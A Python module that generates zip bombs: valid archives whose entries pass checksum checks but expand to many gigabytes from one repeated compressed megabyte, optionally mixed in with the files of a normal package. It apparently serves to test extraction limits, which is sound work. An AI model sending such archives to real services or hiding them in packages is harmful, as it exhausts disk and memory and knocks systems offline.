"""Zip packages that unpack to gigabytes, made without packing gigabytes: one packed megabyte, as often as need be.

They are whole: every part unpacks to what its header says, and its checksum holds.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from functools import cache
from typing import Final

_MEGABYTE: Final = 1 << 20
_LOCAL: Final = struct.Struct("<4s5H3L2H")
_CENTRAL: Final = struct.Struct("<4s6H3L5H2L")
_END: Final = struct.Struct("<4s4H2LH")
_VERSION: Final = 20
_DEFLATED: Final = 8


def bomb(parts: Mapping[str, int], fill: bytes, beside: bytes | None = None) -> bytes:
    """Return a package whose parts unpack to so many megabytes of `fill`, beside the parts of another package."""
    small = [] if beside is None else _parts_of(beside)
    large = [(name, *_repeated(fill, megabytes), megabytes * _MEGABYTE) for name, megabytes in parts.items()]
    file, listing = io.BytesIO(), io.BytesIO()
    for name, packed, checksum, size in [*small, *large]:
        at = file.tell()
        sizes = (checksum, len(packed), size)
        file.write(_LOCAL.pack(b"PK\3\4", _VERSION, 0, _DEFLATED, 0, 0, *sizes, len(name), 0) + name.encode() + packed)
        listing.write(
            _CENTRAL.pack(b"PK\1\2", _VERSION, _VERSION, 0, _DEFLATED, 0, 0, *sizes, len(name), 0, 0, 0, 0, 0, at)
            + name.encode()
        )
    many, begins, entries = len(small) + len(large), file.tell(), listing.getvalue()
    return file.getvalue() + entries + _END.pack(b"PK\5\6", 0, 0, many, many, len(entries), begins, 0)


def _parts_of(package: bytes) -> list[tuple[str, bytes, int, int]]:
    with zipfile.ZipFile(io.BytesIO(package)) as opened:
        read = {name: opened.read(name) for name in opened.namelist()}
    return [(name, zlib.compress(body, wbits=-15), zlib.crc32(body), len(body)) for name, body in read.items()]


@cache
def _repeated(fill: bytes, megabytes: int) -> tuple[bytes, int]:
    body, checksum = fill * (_MEGABYTE // len(fill)), 0
    packer = zlib.compressobj(9, wbits=-15)
    first = packer.compress(body) + packer.flush(zlib.Z_FULL_FLUSH)  # after it nothing refers back: it can be repeated
    for _ in range(megabytes):
        checksum = zlib.crc32(body, checksum)
    return first * megabytes + packer.flush(), checksum
